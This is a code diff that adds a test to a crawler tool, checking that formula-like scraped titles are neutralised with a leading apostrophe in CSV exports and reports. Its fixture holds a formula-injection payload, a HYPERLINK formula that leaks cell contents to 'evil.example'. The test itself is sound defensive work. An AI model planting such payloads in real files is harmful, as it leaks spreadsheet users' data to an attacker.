@@ -72,3 +72,21 @@ def test_dedup_report_json_and_csv(wirecrawl, tmp_path):
     assert json.loads((tmp_path / "n.json").read_text())["stories"] == [] and "0 stories" in none.stderr
     bad = wirecrawl.run("dedup-report", "--store", wirecrawl.store, "-o", str(tmp_path / "r.txt"), check=False)
     assert bad.returncode == 2 and "cannot tell the format" in bad.stderr
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(wirecrawl, tmp_path):
+    """A scraped title `=HYPERLINK(...)` (or one starting with +, -, @) is written with a leading ' in the
+    export's and the report's CSV, so a spreadsheet shows it as text; JSON keeps it as it is."""
+    from pages import PARAGRAPHS, article_html
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    records = [(f"https://{host}/story", article_html(title=title, paragraphs=PARAGRAPHS, site=host).encode(),
+                {"Content-Type": "text/html"})
+               for host, title in (("wire.example", hostile), ("copy.example", "@SUM(1+1) copy"))]
+    wirecrawl.reprocess(write_warc(tmp_path / "h.warc.gz", records, date=FETCHED))
+    wirecrawl.run("export", "--store", wirecrawl.store, "-o", str(tmp_path / "a.csv"))
+    wirecrawl.run("dedup-report", "--store", wirecrawl.store, "-o", str(tmp_path / "r.csv"))
+    for name in ("a.csv", "r.csv"):
+        with open(tmp_path / name, newline="") as f:
+            titles = sorted(r["title"] for r in csv.DictReader(f))
+        assert titles == ["'" + hostile, "'@SUM(1+1) copy"], name
+    assert sorted(r["title"] for r in wirecrawl.export()) == [hostile, "@SUM(1+1) copy"]
